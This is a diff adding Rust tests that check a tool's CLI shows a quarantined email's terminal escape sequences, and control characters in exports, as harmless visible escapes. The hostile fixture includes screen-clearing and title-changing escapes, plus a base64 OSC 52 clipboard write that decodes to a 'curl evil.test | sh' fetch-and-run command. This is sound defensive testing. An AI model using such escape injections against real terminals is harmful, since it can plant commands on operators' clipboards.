@@ -2,7 +2,8 @@
 //! PostgreSQL: search input that is not a search (NUL, control characters, full-text syntax,
 //! thousands of exclusions, 10,000 characters) never answers 500 on the page, the API or the
 //! CLI, and a bound beyond is a 422 (exit 2) that names it; control characters never reach a
-//! stored update, and `<mark>` comes from positions, not from characters in the text.
+//! stored update, and `<mark>` comes from positions, not from characters in the text; a
+//! stranger's escape sequences reach the operator's terminal as escapes.
 
 use reqwest::{Method, StatusCode};
 use serde_json::json;
@@ -364,5 +365,113 @@ both!(
             .unwrap();
         assert!(marks_balanced(&page), "{page}");
         assert_eq!(page.matches("<mark>").count(), 4, "{page}");
+    }
+);
+
+/// The quarantined message from a stranger, with terminal escapes in its headers and body.
+fn hostile_message() -> Vec<u8> {
+    b"From: Mallory \x1b[31m<mallory@evil.test>\r\nTo: updates@example.test\r\nSubject: \x1b]0;pwned\x07hello\r\nMessage-ID: <esc@evil.test>\r\n\r\nClear: \x1b[2J\x1b[H\r\nClipboard: \x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07\r\nCSI: \xc2\x9b6n end\r\n"
+        .to_vec()
+}
+
+both!(
+    a_strangers_terminal_escapes_reach_the_operator_as_escapes,
+    |app| {
+        app.member("ann@example.test", "Ann", "Europe/Berlin").await;
+        let r = app
+            .deliver("esc", &hostile_message(), at("2026-03-09T12:00:00Z"))
+            .await;
+        assert_eq!(r.quarantined, 1, "{r:?}");
+        let rows = app
+            .ctx
+            .store
+            .inbound_with_status(InboundStatus::Quarantined, 10)
+            .await
+            .unwrap();
+        let id = rows[0].id.to_string();
+        let dir = app.dir.path();
+        for args in [
+            vec!["inbox", "quarantine", "show", id.as_str()],
+            vec!["inbox", "quarantine", "list"],
+        ] {
+            let o = cli(dir, &app.db_url, &args);
+            assert!(o.status.success(), "{args:?}");
+            let out = String::from_utf8_lossy(&o.stdout).to_string();
+            assert!(
+                !out.chars()
+                    .any(|c| c.is_control() && c != '\n' && c != '\t'),
+                "{args:?} printed a control character: {out:?}"
+            );
+            if args[2] == "show" {
+                for shown in [
+                    r"Clear: \x1b[2J\x1b[H",
+                    r"\x1b]52;c;Y3VybCBldmlsLnRlc3QgfCBzaA==\x07",
+                    r"CSI: \u{9b}6n end",
+                ] {
+                    assert!(out.contains(shown), "{shown} in {out}");
+                }
+            }
+        }
+    }
+);
+
+both!(
+    an_export_on_a_terminal_shows_control_characters_as_escapes,
+    |app| {
+        let ann = app.member("ann@example.test", "Ann", "Europe/Berlin").await;
+        app.ctx
+            .store
+            .upsert_update(
+                ann,
+                "2026-12-01".parse().unwrap(),
+                "Done: x",
+                &[],
+                "api",
+                None,
+                false,
+                1,
+            )
+            .await
+            .unwrap();
+        // Stored before control characters were dropped (sections read again from the body).
+        sqlx::query("UPDATE updates SET body = $1, sections = 'stored before'")
+            .bind("Done: \u{1b}[2J\u{1b}]52;c;aGk=\u{7}x")
+            .execute(app.ctx.store.pool())
+            .await
+            .unwrap();
+        let bin = env!("CARGO_BIN_EXE_tidings");
+        for format in ["md", "csv"] {
+            // `script` runs the export with a terminal as its stdout.
+            let o = std::process::Command::new("script")
+                .args(["-qec"])
+                .arg(format!("{bin} export --team core --format {format}"))
+                .arg("/dev/null")
+                .current_dir(app.dir.path())
+                .env_remove("TIDINGS_CONFIG")
+                .env("TIDINGS_DATABASE__URL", &app.db_url)
+                .env("TIDINGS_LOG", "warn")
+                .output()
+                .expect("script runs");
+            let out = String::from_utf8_lossy(&o.stdout);
+            assert!(o.status.success(), "{format}: {out}");
+            assert!(
+                out.contains(r"\x1b[2J\x1b]52;c;aGk=\x07x"),
+                "{format}: {out:?}"
+            );
+            assert!(
+                !out.contains('\u{1b}') && !out.contains('\u{7}'),
+                "{format}: {out:?}"
+            );
+            // Piped, the export is the stored text.
+            let o = cli(
+                app.dir.path(),
+                &app.db_url,
+                &["export", "--team", "core", "--format", format],
+            );
+            assert!(
+                String::from_utf8_lossy(&o.stdout).contains("\u{1b}[2J"),
+                "{format}"
+            );
+        }
     }
 );
